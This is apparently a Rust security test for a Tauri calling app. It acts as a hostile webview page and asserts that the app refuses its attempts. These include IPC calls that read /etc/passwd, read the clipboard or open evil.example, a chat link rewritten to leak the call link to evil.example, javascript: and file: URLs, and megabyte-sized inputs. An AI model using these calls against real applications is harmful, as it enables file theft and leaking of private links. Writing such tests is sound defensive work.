//! The window's page as an attacker would have it: what it can reach beyond what the buttons do.

use ahoy_tests::{SOON, call::AhoyCall, need::lacks, webdriver::Page};
use anyhow::{Context as _, Result};
use fantoccini::Locator;
use serde_json::json;
use tokio::time::{sleep, timeout};

use crate::{
    consent::has_chat_line,
    stage::{ALONE, Stage, phase},
};

/// What somebody wrote in the chat.
const WRITTEN: &str = "https://example.org/a?b=c";

/// Asks the shell for what no button asks for; gives what it did not refuse.
const REACH: &str = "
    const invoke = window.__TAURI_INTERNALS__.invoke;
    const asked = [
        ['plugin:fs|read_text_file', { path: '/etc/passwd' }],
        ['plugin:shell|open', { path: 'https://evil.example/' }],
        ['plugin:opener|open_url', { url: 'https://evil.example/' }],
        ['plugin:notification|notify', { options: { title: 'evil', body: 'evil' } }],
        ['plugin:clipboard-manager|read_text', {}],
        ['plugin:clipboard-manager|write_text', { text: 'evil' }],
        ['plugin:webview|create_webview_window', { options: { label: 'evil', url: 'https://evil.example/' } }],
        ['plugin:window|create', { options: { label: 'evil' } }],
        ['plugin:window|close', { label: 'main' }],
        ['plugin:event|listen', { event: 'tauri://drag-drop', target: { kind: 'Any' }, handler: 0 }],
        ['plugin:path|resolve_directory', { directory: 21 }],
        ['plugin:app|version', {}],
        ['dispatch', { command: { type: 'open_file', path: '/etc/passwd' } }],
    ];
    const given = [];
    for (const [command, parameters] of asked) {
        try {
            await invoke(command, parameters);
            given.push(command);
        } catch {}
    }
    return given;";

/// Gives the shell commands with texts of a megabyte, as fast as it takes them.
const SHOUT: &str = "
    const invoke = window.__TAURI_INTERNALS__.invoke;
    const text = 'a.'.repeat(500_000);
    for (const command of [
        { type: 'open_link', link: `https://${text}/r/` },
        { type: 'enter', name: text },
        { type: 'select_camera', id: text },
        { type: 'select_microphone', id: text },
        { type: 'select_speaker', id: text },
        { type: 'select_source', id: text },
        { type: 'select_link_address', address: text },
        { type: 'set_relay', relay: { type: 'server', url: `https://${text}` } },
        { type: 'join_relay', url: `ws://${text}/`, shape: { type: 'both' } },
        { type: 'call_recent', id: text },
        { type: 'send_chat', text },
    ]) await invoke('dispatch', { command });
    return true;";

/// Presses the link in the chat as a person does, after the page has made it lead elsewhere.
async fn press_link(page: &Page, leads_to: &str) -> Result<()> {
    let lead = "document.querySelector('[data-testid=chat-line] a').href = arguments[0]";
    page.run(lead, vec![json!(leads_to)]).await?;
    let link = Locator::Css("[data-testid=chat-line] a");
    timeout(SOON, async {
        page.client()?
            .find(link)
            .await?
            .click()
            .await
            .context("a press")
    })
    .await?
}

#[tokio::test]
async fn the_page_reaches_no_file_no_program_and_no_address_that_nobody_wrote() -> Result<()> {
    if lacks(&ALONE) {
        return Ok(());
    }
    let stage = Stage::with_camera().await?;
    let page = stage.app.page();
    assert_eq!(page.run_async(REACH, vec![]).await?, json!([]));

    let link = stage.new_call().await?;
    let said = format!("see {WRITTEN} now");
    let _guest = AhoyCall::start(&link, &["--chat", &said])?;
    phase(page, "connected").await?;
    page.press("chat-toggle").await?;
    has_chat_line(page, WRITTEN).await?;
    let opened = async |count: usize| -> Result<()> {
        let home = stage.app.home();
        let found = timeout(SOON, async {
            while home.opened().len() < count {
                sleep(std::time::Duration::from_millis(50)).await;
            }
        });
        found.await.context("nothing was opened")?;
        assert_eq!(home.opened(), vec![WRITTEN; count]);
        Ok(())
    };
    press_link(page, WRITTEN).await?;
    opened(1).await?;

    // What the page has written itself counts for nothing.
    let stolen = format!("https://evil.example/?{}", link.replace('#', "%23"));
    page.write("chat-input", &stolen).await?;
    page.press("chat-send").await?;
    has_chat_line(page, "evil.example").await?;
    for address in [
        &*stolen,
        "https://example.org/a?b=c&stolen",
        "https://example.org/",
        "file:///etc/passwd",
        "ahoy://evil.example/",
        "javascript:alert(1)",
    ] {
        press_link(page, address).await?;
    }
    page.run("location.href = 'file:///etc/passwd'", vec![])
        .await?;
    page.run("location.href = arguments[0]", vec![json!(stolen)])
        .await?;
    // The page is still there, and so is the way for what somebody wrote; a second press at once is none.
    press_link(page, WRITTEN).await?;
    opened(2).await?;
    phase(page, "connected").await?;

    // However much it says, the window lives and little is kept.
    page.run_async(SHOUT, vec![]).await?;
    phase(page, "connected").await?;
    page.press("hang-up").await?;
    page.shown("ended").await?;
    let kept = std::fs::metadata(stage.app.home().kept("settings.json"))?;
    assert!(kept.len() < 16 * 1024, "{} bytes of settings", kept.len());
    opened(2).await
}
